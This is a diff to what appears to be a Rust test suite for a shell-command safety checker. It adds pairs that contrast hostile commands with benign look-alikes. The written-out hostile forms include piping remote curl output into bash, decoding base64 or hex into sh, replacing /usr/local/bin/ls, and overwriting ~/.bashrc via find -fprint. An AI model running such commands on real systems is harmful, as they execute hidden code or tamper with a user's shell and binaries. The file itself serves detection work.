@@ -236,6 +236,14 @@ fn decode_then_run() {
             "source /dev/stdin <<< \"$(echo id)\"",
         ),
         ("bash < <(curl -s http://e/x)", "bash < <(echo id)"),
+        (
+            "python3 -m base64 -d <<< aWQ= | sh",
+            "python3 -m json.tool <<< '{}' | sh",
+        ),
+        (
+            "perl -e 'print pack(\"H*\",\"6964\")' | sh",
+            "perl -e 'print \"id\"' | sh",
+        ),
     ]);
 }
 
@@ -291,6 +299,7 @@ fn persistence_through_any_writer() {
             "install -m 755 x /usr/local/bin/ls",
             "install -m 755 x ./bin/ls",
         ),
+        ("find . -fprint ~/.bashrc", "find . -fprint files.txt"),
     ]);
 }
 
